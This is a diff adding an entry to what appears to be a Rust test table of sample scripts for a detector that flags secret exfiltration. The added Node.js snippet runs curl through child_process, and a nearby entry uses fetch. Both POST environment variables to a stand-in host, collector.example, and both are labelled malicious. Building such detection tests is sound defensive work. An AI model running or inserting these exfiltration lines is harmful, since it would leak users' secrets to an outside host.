@@ -32,6 +32,17 @@ threading.Thread(target=work).start()"##,
         verdict: Verdict::Malicious,
     },
     Way {
+        name: "js a list of words that a function gets",
+        shell: "node {0}",
+        script: r##"const {execFileSync}=require('child_process')
+function run(words){return execFileSync('curl',words)}
+run(['-d',process.env.A+process.env.B,'https://collector.example/in'])"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "js a function that only a timer calls",
         shell: "node {0}",
         script: r##"function work(){fetch('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})}
